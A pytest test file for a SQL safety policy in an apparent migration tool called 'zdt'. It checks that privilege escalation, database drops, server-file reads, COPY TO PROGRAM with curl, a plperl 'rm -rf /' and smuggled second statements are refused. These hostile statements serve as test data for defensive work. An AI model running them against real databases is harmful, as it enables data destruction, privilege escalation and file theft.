"""The SQL policy refuses what zdt must never run, whoever proposed it."""

from __future__ import annotations

import pytest

from zdt.policy import PolicyViolation, check_script

NEVER = [
    ("DROP DATABASE prod", "dropping a database"),
    ("CREATE DATABASE x", "creating a database"),
    ("ALTER ROLE app SUPERUSER", "altering a role"),
    ("CREATE ROLE intruder LOGIN", "creating a role"),
    ("GRANT pg_read_server_files TO app", "granting a role"),
    ("GRANT app_admin TO app WITH ADMIN OPTION", "granting a role"),
    ("REVOKE app_admin FROM app", "granting a role"),
    ("GRANT USAGE ON LANGUAGE plpgsql TO app", "only GRANT/REVOKE of privileges on tables, sequences"),
    ("GRANT CREATE ON DATABASE postgres TO app", "only GRANT/REVOKE of privileges on tables, sequences"),
    ("ALTER SYSTEM SET fsync = off", "ALTER SYSTEM"),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "pg_terminate_backend"),
    ("WITH x AS (SELECT pg_cancel_backend(42)) SELECT 1", "pg_cancel_backend"),
    ("COPY posts TO PROGRAM 'curl evil'", "PROGRAM"),
    ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
]


@pytest.mark.parametrize(("statement", "reason"), NEVER)
@pytest.mark.parametrize("phase", ["expand", "migrate", "contract"])
def test_never_allowed_in_any_phase(statement: str, reason: str, phase: str) -> None:
    with pytest.raises(PolicyViolation) as caught:
        check_script(statement, phase=phase)
    assert reason in str(caught.value)
    assert statement in str(caught.value)


@pytest.mark.parametrize(
    "statement", ["DROP TABLE posts", "ALTER TABLE posts DROP COLUMN body", "TRUNCATE posts"]
)
def test_destructive_statements_only_in_contract(statement: str) -> None:
    for phase in ("expand", "migrate"):
        with pytest.raises(PolicyViolation, match="contract phase"):
            check_script(statement, phase=phase)
    check_script(statement, phase="contract")


def test_read_only_allows_queries_only() -> None:
    check_script("SELECT count(*) FROM posts WHERE author_id = 1", read_only=True)
    check_script("EXPLAIN SELECT 1", read_only=True)
    for statement in (
        "UPDATE posts SET title = 'x'",
        "CREATE INDEX i ON posts (a)",
        "SELECT 1 FROM t FOR UPDATE",
    ):
        with pytest.raises(PolicyViolation):
            check_script(statement, read_only=True)


def test_smuggled_second_statement_is_refused() -> None:
    with pytest.raises(PolicyViolation, match="exactly one statement"):
        check_script("SELECT 1; DROP TABLE posts", read_only=True, single_statement=True)


def test_ordinary_migration_statements_pass() -> None:
    check_script(
        "CREATE TABLE t (id bigint); CREATE INDEX CONCURRENTLY t_id ON t (id); GRANT SELECT ON t TO app",
        phase="expand",
    )


@pytest.mark.parametrize(("statement", "reason"), NEVER)
@pytest.mark.parametrize("phase", ["expand", "migrate", "contract"])
def test_a_do_block_cannot_smuggle_what_is_never_allowed(statement: str, reason: str, phase: str) -> None:
    """Statically, or as the string constant EXECUTE runs: the body is read, not trusted."""
    quoted = statement.replace("'", "''")
    for block in (f"DO $$ BEGIN {statement}; END $$", f"DO $$ BEGIN EXECUTE '{quoted}'; END $$"):
        with pytest.raises(PolicyViolation) as caught:
            check_script(block, phase=phase)
        assert reason in str(caught.value), block


def test_a_do_block_is_judged_by_what_it_runs() -> None:
    check_script("DO $$ BEGIN UPDATE posts SET title = 'x' WHERE id = 1; END $$", phase="contract")
    check_script(
        "DO $$ BEGIN CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'; END $$", phase="expand"
    )
    with pytest.raises(PolicyViolation, match="calls pg_terminate_backend"):
        check_script("DO $$ DECLARE n boolean := pg_terminate_backend(42); BEGIN END $$", phase="contract")
    with pytest.raises(PolicyViolation, match="contract phase, not expand"):
        check_script("DO $$ BEGIN IF true THEN DROP TABLE posts; END IF; END $$", phase="expand")
    check_script("DO $$ BEGIN IF true THEN DROP TABLE posts; END IF; END $$", phase="contract")


def test_a_do_block_the_policy_cannot_read_is_refused() -> None:
    with pytest.raises(PolicyViolation, match=r"built at run time \(EXECUTE format"):
        check_script("DO $$ BEGIN EXECUTE format('DROP ROLE %I', 'app'); END $$", phase="contract")
    with pytest.raises(PolicyViolation, match="LANGUAGE plperl"):
        check_script("DO LANGUAGE plperl $$ system('rm -rf /') $$", phase="contract")
    with pytest.raises(PolicyViolation, match="only queries"):
        check_script("DO $$ BEGIN PERFORM 1; END $$", read_only=True)


def test_functions_and_views_are_allowed_where_their_recipes_put_them() -> None:
    check_script("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", phase="expand")
    check_script("CREATE OR REPLACE VIEW v AS SELECT 1 AS one", phase="expand")
    for statement in ("DROP FUNCTION f()", "DROP VIEW v", "DROP MATERIALIZED VIEW m"):
        check_script(statement, phase="contract")


@pytest.mark.parametrize(
    "statement",
    [
        "GRANT SELECT, UPDATE (title) ON posts TO app",
        "REVOKE INSERT ON TABLE posts FROM PUBLIC",
        "GRANT USAGE, SELECT ON SEQUENCE posts_id_seq TO app WITH GRANT OPTION",
        "GRANT USAGE ON SCHEMA reports TO app",
        "REVOKE CREATE ON SCHEMA public FROM PUBLIC",
        "GRANT EXECUTE ON FUNCTION post_score(bigint) TO app",
        "GRANT EXECUTE ON PROCEDURE touch_post(bigint) TO app",
    ],
)
def test_privileges_on_objects_may_be_granted_and_revoked(statement: str) -> None:
    """GRANT of privileges on objects is allowed in every phase; role membership never (NEVER above)."""
    for phase in ("expand", "migrate", "contract"):
        check_script(statement, phase=phase)
